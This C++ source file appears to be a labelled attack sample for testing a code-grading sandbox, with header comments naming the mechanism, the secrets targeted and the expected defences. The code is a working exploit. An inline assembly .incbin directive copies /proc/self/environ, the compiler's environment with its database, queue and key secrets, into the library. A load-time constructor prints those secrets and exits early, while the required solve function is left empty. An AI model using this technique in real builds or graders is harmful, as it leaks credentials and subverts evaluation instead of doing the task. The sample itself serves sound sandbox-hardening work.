// Carries the compiler's environment out in the library.
//
// Mechanism: .incbin copies a file into the library; the library prints it into the report when it is loaded.
// Surface: the environment of the compiler's parent.
// Gain: the worker's secrets: database, queue, the key of the seeds.
// Challenge: twice
// Like: incbin_shadow
// Defence: runtime_error, compile_error
// On: cpu, gpu
// Secret: environment

#include <cstdint>
#include <unistd.h>
asm(".section .rodata\n.globl stolen\nstolen: .incbin \"/proc/self/environ\"\n.globl stolen_end\nstolen_end: .byte 0\n"
    ".text\n");
extern "C" const char stolen[], stolen_end[];
__attribute__((constructor)) static void tell() {
    long came = write(1, stolen, stolen_end - stolen);
    _exit(came >= 0 ? 3 : 4);
}
extern "C" void solve(const float* x, float* out, int64_t n) {}
